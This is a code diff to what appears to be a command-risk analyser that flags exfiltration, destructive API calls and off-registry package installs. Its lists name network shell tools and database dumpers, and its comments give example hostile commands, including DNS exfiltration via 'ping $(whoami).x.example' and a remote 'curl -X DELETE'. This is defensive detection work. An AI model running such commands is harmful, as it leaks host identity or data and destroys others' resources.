@@ -10,6 +10,9 @@ export const NETWORK = new Set([...DOWNLOADERS, 'nc', 'ncat', 'netcat', 'socat',
   'nslookup', 'dig', 'host', 'drill', 'ping', 'tftp', 'smbclient', 'rclone', 'ncftp', 'websocat', 'wscat', 'mail', 'sendmail', 'mutt']);
 const ENV_DUMPS = new Set(['env', 'printenv', 'set', 'export', 'declare', 'compgen']);
 const ARCHIVERS = new Set(['tar', 'zip', '7z', 'gzip', 'bzip2', 'xz', 'zstd', 'cpio', 'rsync', 'cp', 'base64', 'xxd', 'gpg', 'openssl']);
+const DUMPERS = /^(mysqldump|mariadb-dump|pg_dump|pg_dumpall|mongodump|mongoexport|bcp|exp|expdp)$/;
+/** Programs that look a name up: data spelled into the name leaves through DNS. */
+const RESOLVERS = new Set(['nslookup', 'dig', 'host', 'drill', 'ping', 'ping6', 'traceroute', 'resolvectl', 'getent']);
 const SECRET_VARIABLE = /(key|token|secret|passw|credential|auth|cookie|session|private)/i;
 const LOCAL_HOST = /^(https?:\/\/)?(localhost|127\.\d+\.\d+\.\d+|\[?::1\]?|0\.0\.0\.0|host\.docker\.internal)([:/]|$)/i;
 
@@ -36,6 +39,8 @@ export function dataClassOf(scope: CommandScope): string | undefined {
   const tainted = reads.map((e) => (e.target ? scope.line.tainted.get(e.target) : undefined)).find(Boolean);
   if (tainted) return tainted;
   if (ARCHIVERS.has(command.program) && reads.some((e) => e.class === 'home' || e.class === 'root')) return 'home';
+  // A database dump is the data itself: on its way to the network it is exfiltration, not a backup.
+  if (DUMPERS.test(command.program) || (command.program === 'sqlite3' && command.positionals.some((p) => /^\.dump\b/.test(p)))) return 'database';
   if (reads.some((e) => e.class === 'system' && /^\/etc\/(passwd|group|hosts)$/.test(e.target ?? '')) && command.program !== 'ls') return 'system';
   return undefined;
 }
@@ -56,6 +61,12 @@ export function egressEffects(scope: CommandScope, upstream: readonly string[]):
   if (command.variables.some((name) => SECRET_VARIABLE.test(name))) flows.add('secret');
   const host = command.positionals.find((arg) => /[./:]/.test(arg)) ?? command.positionals[0];
   const local = host !== undefined && LOCAL_HOST.test(host) && flows.size === 0;
+  // `ping $(whoami).x.example`, `curl https://$(hostname).x.example`: output of a command spelled into the name looked up.
+  const names = RESOLVERS.has(command.program) ? command.positionals : command.positionals.map((arg) => /^(?:[a-z][\w+.-]*:\/\/)?([^/?#]*)/i.exec(arg)?.[1] ?? '');
+  if (names.some((name) => name.includes('$(') || name.includes('`'))) flows.add('computed-name');
+  // `curl -X DELETE https://api…/projects/prod`: a destructive verb on someone's API (local servers are the developer's own).
+  const method = [...flagValues(command, ['--request', '-X', '--method']), ...(/^(http|https|xh)$/.test(command.program) ? command.positionals.slice(0, 1) : [])].map((m) => m.toUpperCase());
+  if (method.some((m) => m === 'DELETE' || m === 'PURGE') && !(host !== undefined && LOCAL_HOST.test(host))) scope.add('destroy', 'remote-api', true, { ...(host ? { target: host.slice(0, 200) } : {}), detail: `HTTP ${method.join(',')} to a remote service` });
   if (flows.size === 0) scope.add('egress', local ? 'local' : 'plain', false, host ? { target: host.slice(0, 200) } : {});
   for (const flow of flows) scope.add('egress', flow, true, host ? { target: host.slice(0, 200), via: 'pipe' } : { via: 'pipe' });
 }
@@ -133,6 +144,24 @@ export function execEffects(scope: CommandScope): void {
   envDumpEffects(scope);
   secretToolEffects(scope);
   gitRemoteEffects(scope);
+  offRegistryInstall(scope);
+}
+
+/**
+ * `pip install https://…/pkg.tar.gz`, `pip install -i http://203.0.113.9/simple x`, `npm i git+https://…`:
+ * a package from outside the registry runs its install code unreviewed. Registry installs stay allowed.
+ */
+function offRegistryInstall(scope: CommandScope): void {
+  const { command } = scope;
+  const pip = /^(pip[0-9.]*|uv|pipx|poetry)$/.test(command.program) || (/^python[0-9.]*$/.test(command.program) && flagValues(command, ['-m']).some((m) => m === 'pip'));
+  const node = /^(npm|pnpm|yarn|bun)$/.test(command.program);
+  if (!pip && !node) return;
+  const words = [command.subcommand ?? '', ...command.positionals];
+  if (!words.slice(0, 3).some((word) => /^(install|i|add|update|upgrade)$/.test(word))) return;
+  const url = command.positionals.find((p) => /^(https?:|git\+|git:|ssh:|file:\/\/\/(?!code))/i.test(p));
+  const index = flagValues(command, ['--index-url', '-i', '--extra-index-url', '--registry', '--trusted-host', '-f', '--find-links']).find((value) => !/^https:\/\/(pypi\.org|registry\.npmjs\.org|registry\.yarnpkg\.com)\b/.test(value));
+  const from = url ?? index;
+  if (from !== undefined) scope.add('exec', 'off-registry', true, { target: from.slice(0, 200), detail: 'installs a package from outside the registry (its install code runs)' });
 }
 
 /** A git remote spelled as a URL or scp-like address rather than a configured name. */
